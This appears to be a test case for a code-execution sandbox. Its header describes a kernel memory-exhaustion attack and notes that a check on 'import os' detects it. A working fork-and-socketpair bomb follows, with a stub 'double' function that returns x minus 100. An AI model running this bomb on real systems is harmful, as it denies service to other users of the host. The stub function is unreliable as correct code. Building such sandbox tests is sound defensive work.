# ---
# attack: 'Sends messages of one byte, each of which the kernel wraps in hundreds, and never reads them.'
# class: 'memory, fork, disk, descriptor, output bombs'
# sandboxes: [namespaces]
# detected: 'The cell `import os`'
# runtimes: [tensorflow]
# ---
# %% before="q1"
import os
import socket
import time

for _ in range(30):
    if os.fork() == 0:
        kept = []
        for _ in range(400):
            sender, receiver = socket.socketpair()
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
            sender.setblocking(False)
            try:
                for _ in range(4000):
                    sender.send(b"x")
            except BlockingIOError:
                pass
            kept += [sender, receiver]
        time.sleep(5)
        os._exit(0)
time.sleep(5)

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
